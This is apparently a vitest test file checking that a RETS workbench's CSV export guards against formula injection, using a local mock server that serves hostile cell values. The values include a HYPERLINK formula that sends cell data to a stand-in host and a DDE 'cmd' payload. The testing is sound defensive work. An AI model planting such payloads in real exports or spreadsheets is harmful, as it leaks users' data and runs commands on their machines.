// CSV injection through an export: a hostile MLS on 127.0.0.1 sends values a spreadsheet would
// run as formulas. With the guard (on by default with the Excel BOM) those cells start with `'`;
// without it (the default without BOM, for databases) every value is exact.
import { spawn } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { HostEvent, Profile } from '../../shared/contract';
import { parseCsv } from './csv';
import { call, runOperation, startHarness, type Harness } from './hostHarness';

const LOGIN = [
  '<RETS ReplyCode="0" ReplyText="OK">', '<RETS-RESPONSE>', 'MemberName=Hostile', 'User=u,1,Agent,A1', 'Broker=B,1',
  'MetadataVersion=1.0.0', 'MinMetadataVersion=1.0.0', 'TimeoutSeconds=1800', 'Search=/rets/search', 'Logout=/rets/logout',
  '</RETS-RESPONSE>', '</RETS>', '',
].join('\r\n');

// A `|` delimiter lets a value hold a tab; `&#13;` is a carriage return inside a value.
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+SUM(1,2)', `-2+3+cmd|' /C calc'!A0`, '@SUM(1)', '\tTAB=1', '&#13;=1+1', '-88.250000', 'Main St', ''];
const WRITTEN = HOSTILE.map((v) => v.replace('&#13;', '\r'));
const SEARCH = [
  '<RETS ReplyCode="0" ReplyText="OK">', `<COUNT Records="${HOSTILE.length}" />`, '<DELIMITER value="7C"/>',
  '<COLUMNS>|ID|=Note|</COLUMNS>',
  ...HOSTILE.map((v, i) => `<DATA>|${i + 1}|${v.replace(/\|/g, '!').replace(/&(?!#13;)/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;')}|</DATA>`),
  '</RETS>', '',
].join('\r\n');
const NOTES = WRITTEN.map((v) => v.replace(/\|/g, '!'));

let server: Server;
let h: Harness;
let profileId: string;
beforeAll(async () => {
  server = createServer((req, res) => {
    const path = new URL(req.url ?? '/', 'http://x').pathname;
    res.setHeader('Content-Type', 'text/xml');
    // The CLI exits when its sockets close: without this it waits out the server's keep-alive.
    res.setHeader('Connection', 'close');
    if (path === '/rets/login') res.setHeader('Set-Cookie', 'RETS-Session-ID=hostile; Path=/');
    res.end(path === '/rets/login' ? LOGIN : path === '/rets/search' ? SEARCH : '<RETS ReplyCode="0" ReplyText="OK" />\r\n');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  h = await startHarness({ listings: 100 });
  const { profile } = await call<{ profile: Profile }>(h.host, 'profiles.create', {
    name: 'Hostile', loginUrl: `http://127.0.0.1:${(server.address() as AddressInfo).port}/rets/login`, username: 'u', password: 'p', authScheme: 'basic',
  });
  profileId = profile.id;
});
afterAll(async () => {
  await h?.close();
  server.close();
});

async function exportNotes(options: Record<string, unknown>): Promise<string[][]> {
  const { last } = await runOperation(h.host, 'export.start', {
    profileId, resource: 'Property', class: 'RES', query: '(ID=1+)', destination: { kind: 'download', fileName: 'hostile.csv' }, options,
  });
  expect(last.type, JSON.stringify(last)).toBe('export.done');
  const text = readFileSync(h.host.download((last as Extract<HostEvent, { type: 'export.done' }>).operationId)!.path, 'utf8');
  return parseCsv(text.startsWith('\ufeff') ? text.slice(1) : text);
}

const guarded = (v: string) => (/^[=+\-@\t\r]/.test(v) && !/^-\d+\.\d+$/.test(v) ? `'${v}` : v);

describe('CSV export: formula guard', () => {
  it('with the Excel BOM, formula cells (and a formula header) start with an apostrophe by default', async () => {
    const table = await exportNotes({ bom: true });
    expect(table[0]).toEqual(['ID', "'=Note"]);
    expect(table.slice(1).map((r) => r[1])).toEqual(NOTES.map(guarded));
    expect(table[1][1]).toBe(`'${NOTES[0]}`);
    expect(table[7][1]).toBe('-88.250000'); // a plain number stays a number
  });

  it('without the BOM, values are exact by default', async () => {
    const table = await exportNotes({ bom: false });
    expect(table[0]).toEqual(['ID', '=Note']);
    expect(table.slice(1).map((r) => r[1])).toEqual(NOTES);
  });

  it('the option overrides the default either way', async () => {
    expect((await exportNotes({ bom: false, formulaGuard: true })).slice(1).map((r) => r[1])).toEqual(NOTES.map(guarded));
    expect((await exportNotes({ bom: true, formulaGuard: false })).slice(1).map((r) => r[1])).toEqual(NOTES);
  });

  it('the CLI\'s search --csv guards with --bom by default, and --formula-guard off turns it off', async () => {
    const work = mkdtempSync(path.join(tmpdir(), 'rw-guard-'));
    const loginUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/rets/login`;
    const search = (flags: string[]) => new Promise<string[][]>((resolve, reject) => {
      const out = path.join(work, 'notes.csv');
      const child = spawn(process.execPath, [path.resolve(__dirname, '..', '..', 'bin', 'rets-workbench.cjs'), 'search', 'Property', 'RES', '(ID=1+)', '--csv', out, '--url', loginUrl, '--user', 'u', ...flags], {
        env: { ...process.env, RETS_PASSWORD: 'p', RETS_UA_PASSWORD: '', RETS_WORKBENCH_HOME: work, DBUS_SESSION_BUS_ADDRESS: 'disabled:' }, stdio: ['ignore', 'ignore', 'pipe'],
      });
      let stderr = '';
      child.stderr.on('data', (c: Buffer) => { stderr += c.toString(); });
      child.on('close', (code) => {
        if (code !== 0) { reject(new Error(`exit ${code}: ${stderr}`)); return; }
        const text = readFileSync(out, 'utf8');
        resolve(parseCsv(text.startsWith('\ufeff') ? text.slice(1) : text));
      });
    });
    try {
      const bom = await search(['--bom']);
      expect(bom[0]).toEqual(['ID', "'=Note"]);
      expect(bom.slice(1).map((r) => r[1])).toEqual(NOTES.map(guarded));
      expect((await search(['--bom', '--formula-guard', 'off'])).slice(1).map((r) => r[1])).toEqual(NOTES);
    } finally {
      rmSync(work, { recursive: true, force: true });
    }
  });
});
